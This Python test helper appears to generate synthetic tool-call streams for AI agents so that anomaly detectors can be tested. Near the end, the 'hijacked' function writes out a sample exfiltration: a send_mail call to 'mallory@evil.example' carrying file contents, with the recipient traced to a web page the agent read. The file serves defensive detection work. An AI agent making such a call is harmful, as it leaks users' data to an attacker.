"""Synthetic agents for the tests: seeded, with habits, bursts and idle hours."""

from __future__ import annotations

import random
from collections.abc import Iterator
from typing import Any

from detectors import Bank, Features, Hasher, Scores

HASHER = Hasher(0x5EED)
DAY_S = 86_400.0


def benign(seed: int, agents: int, actions: int) -> Iterator[tuple[int, dict[str, Any]]]:
    """Yield (agent, keyword arguments of `Hasher.features`) of a stationary fleet of agents with own habits."""
    rng = random.Random(seed)
    clocks = [rng.uniform(0, 600) for _ in range(agents)]
    sessions = [0] * agents
    states = [0] * agents
    for _ in range(actions):
        agent = min(range(agents), key=clocks.__getitem__)
        if rng.random() < 0.05:
            sessions[agent] += 1
            states[agent] = 0
        states[agent] = (states[agent] + rng.choice((1, 1, 1, 2, 3))) % 6
        tool = f"tool-{(agent % 4) * 4 + states[agent]}"
        path = f"file-{agent % 4}-{min(int(rng.paretovariate(1.1)), 2000)}"
        yield (
            agent + 1,
            {
                "tool": tool,
                "args": {"path": path, "text": "x" * int(rng.lognormvariate(3, 0.8)), "n": rng.randrange(5)},
                "ts_s": 1e9 + clocks[agent],
                "session": f"{agent}-{sessions[agent]}",
                "version": "1",
                "provenance": {"path": rng.choice(("user", "user", "tool:list")), "n": "model"},
            },
        )
        # Two modes: steps of a run follow each other, runs begin after a pause.
        clocks[agent] += rng.lognormvariate(0.7, 0.6) if rng.random() < 0.9 else rng.expovariate(1 / 1500)


def numbers(stream: Iterator[tuple[int, dict[str, Any]]]) -> tuple[list[int], list[Features]]:
    agents: list[int] = []
    features: list[Features] = []
    for agent, action in stream:
        agents.append(agent)
        features.append(HASHER.features(**action))
    return agents, features


def steps(bank: Bank, agents: list[int], features: list[Features], size: int = 512) -> list[Scores]:
    return [bank.step(agents[i : i + size], features[i : i + size]) for i in range(0, len(agents), size)]


def hijacked(ts_s: float, session: str) -> dict[str, Any]:
    """Return an exfiltration: a tool, a recipient and a source that the agent never had."""
    return {
        "tool": "send_mail",
        "args": {"to": "mallory@evil.example", "body": "y" * 3000},
        "ts_s": ts_s,
        "session": session,
        "version": "1",
        "provenance": {"to": "tool:read_web_page", "body": "tool:read_file"},
    }
